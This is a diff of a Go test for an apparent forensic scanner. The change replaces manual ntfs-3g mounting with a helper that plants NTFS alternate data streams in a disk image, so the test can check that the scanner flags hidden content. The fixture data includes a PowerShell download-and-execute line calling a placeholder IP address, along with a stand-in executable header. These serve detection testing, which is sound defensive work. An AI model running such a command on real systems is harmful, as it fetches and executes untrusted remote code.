@@ -10,8 +10,8 @@ import (
 	"strings"
 	"sync"
 	"testing"
-	"time"
 
+	"github.com/snapscan/snapscan/internal/ntfsimg"
 	"github.com/snapscan/snapscan/report"
 )
 
@@ -239,40 +239,15 @@ func TestEvasionNTFSImages(t *testing.T) {
 // and holds the streams check to them: an executable and a script hidden in
 // streams are high, a Zone.Identifier is decoded into the inventory only.
 func evasionStreams(t *testing.T, src string) {
-	dir := t.TempDir()
-	img, mnt := filepath.Join(dir, "ads.img"), filepath.Join(dir, "mnt")
+	img := filepath.Join(t.TempDir(), "ads.img")
 	if b, err := exec.Command("cp", src, img).CombinedOutput(); err != nil {
 		t.Fatalf("cp: %v %s", err, b)
 	}
-	if err := os.Mkdir(mnt, 0o755); err != nil {
-		t.Fatal(err)
-	}
-	// no_detach and no pipes: a daemonised ntfs-3g would hold an output pipe open forever.
-	mount := exec.Command("ntfs-3g", "-o", "no_detach,streams_interface=xattr", img, mnt)
-	if err := mount.Start(); err != nil {
-		t.Fatal(err)
-	}
-	defer mount.Wait()
-	for i := 0; i < 100 && exec.Command("mountpoint", "-q", mnt).Run() != nil; i++ {
-		time.Sleep(50 * time.Millisecond)
-	}
-	streams := []struct{ file, stream, data string }{
-		{"ProgramData/WinSvcData/config.json", "svc.exe", "MZ\x90\x00 stand-in for a program hidden in a stream"},
-		{"Windows/System32/Tasks/GoogleUpdateTaskMachineCore{CF8953F0-7413-4BC6-94A3-B0282ACC3AE4}", "payload.ps1", "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/x')"},
-		{"Users/Preston/Documents/WindowsPowerShell/Microsoft.PowerShell_profile.ps1", "Zone.Identifier", "[ZoneTransfer]\r\nZoneId=3\r\nHostUrl=https://example.org/profile.ps1\r\n"},
-	}
-	for _, s := range streams {
-		if b, err := exec.Command("setfattr", "-n", "user."+s.stream, "-v", "0x"+hex.EncodeToString([]byte(s.data)), filepath.Join(mnt, s.file)).CombinedOutput(); err != nil {
-			exec.Command("umount", mnt).Run()
-			t.Fatalf("setfattr %s:%s: %v %s", s.file, s.stream, err, b)
-		}
-	}
-	if b, err := exec.Command("umount", mnt).CombinedOutput(); err != nil {
-		t.Fatalf("umount: %v %s", err, b)
-	}
-	if err := mount.Wait(); err != nil {
-		t.Fatalf("ntfs-3g: %v", err)
-	}
+	ntfsimg.Write(t, img, nil, []ntfsimg.Stream{
+		{File: "ProgramData/WinSvcData/config.json", Name: "svc.exe", Data: "MZ\x90\x00 stand-in for a program hidden in a stream"},
+		{File: "Windows/System32/Tasks/GoogleUpdateTaskMachineCore{CF8953F0-7413-4BC6-94A3-B0282ACC3AE4}", Name: "payload.ps1", Data: "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/x')"},
+		{File: "Users/Preston/Documents/WindowsPowerShell/Microsoft.PowerShell_profile.ps1", Name: "Zone.Identifier", Data: "[ZoneTransfer]\r\nZoneId=3\r\nHostUrl=https://example.org/profile.ps1\r\n"},
+	})
 	got := scanNTFS(t, img)
 	if len(got.errors) != 0 {
 		t.Errorf("errors: %v", got.errors)
